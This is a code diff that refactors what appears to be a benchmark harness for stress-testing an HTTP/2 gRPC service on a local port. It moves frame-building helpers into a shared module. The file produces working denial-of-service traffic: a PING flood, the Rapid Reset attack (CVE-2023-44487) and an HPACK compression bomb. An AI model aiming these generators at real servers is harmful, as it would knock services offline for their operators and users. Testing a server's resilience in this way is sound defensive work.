@@ -16,9 +16,8 @@ import sys
 import time
 from collections.abc import Callable, Iterator
 
-# Of frames; RFC 9113, section 6.
-_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING = 0, 1, 3, 4, 6
-_END_STREAM, _END_HEADERS = 1, 4
+from benchmarks.harness import http2
+
 _CANCEL = struct.pack(">I", 8)
 
 _FRAMES_AT_A_TIME = 200
@@ -26,42 +25,15 @@ _PATIENCE_SECONDS = 1
 _SECONDS_BETWEEN_CONNECTIONS = 0.005  # So that their number is bounded, too.
 
 
-def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-    return (
-        struct.pack(">HBBBI", len(payload) >> 8, len(payload) & 255, kind, flags, stream) + payload
-    )
-
-
-def _literal(name: bytes, value: bytes) -> bytes:
-    """A field of HPACK that is not to be remembered; `name` is an index, or a name's own form."""
-    return name + bytes([len(value)]) + value
-
-
-# The fields of a Get: indexes are those of HPACK's static table (RFC 7541, appendix A).
-_GET_FIELDS = b"\x83\x86" + b"".join(  # :method POST, :scheme http
-    (
-        _literal(b"\x04", b"/cachestore.v1.CacheStore/Get"),  # :path
-        _literal(b"\x01", b"hostile"),  # :authority
-        _literal(b"\x00\x02te", b"trailers"),
-        _literal(b"\x0f\x10", b"application/grpc"),  # content-type
-    )
-)
-_GET_MESSAGE = b"\0\0\0\0\x03\x0a\x01k"
-
-
 def ping_flood() -> Iterator[bytes]:
     """Frames that ask for an answer each."""
-    return itertools.repeat(_frame(_PING, 0, 0, b"01234567"))
+    return itertools.repeat(http2.frame(http2.PING, 0, 0, b"01234567"))
 
 
 def rapid_reset() -> Iterator[bytes]:
     """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
     for stream in itertools.count(1, 2):
-        yield (
-            _frame(_HEADERS, _END_HEADERS, stream, _GET_FIELDS)
-            + _frame(_DATA, _END_STREAM, stream, _GET_MESSAGE)
-            + _frame(_RST_STREAM, 0, stream, _CANCEL)
-        )
+        yield http2.get(stream) + http2.frame(http2.RST_STREAM, 0, stream, _CANCEL)
 
 
 def hpack_bomb() -> Iterator[bytes]:
@@ -70,7 +42,7 @@ def hpack_bomb() -> Iterator[bytes]:
     remembered = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4_000
     for stream in itertools.count(1, 2):
         block = (remembered if stream == 1 else b"") + b"\xbe" * 12_000
-        yield _frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, block)
+        yield http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block)
 
 
 KINDS: dict[str, Callable[[], Iterator[bytes]]] = {
@@ -87,7 +59,7 @@ def _flood(port: int, frames: Iterator[bytes], give_up_at: float) -> int:
         # Leaves nothing behind when it is closed.
         connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
         try:
-            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
+            connection.sendall(http2.PREFACE)
             while time.monotonic() < give_up_at:
                 connection.sendall(b"".join(itertools.islice(frames, _FRAMES_AT_A_TIME)))
                 sent += _FRAMES_AT_A_TIME
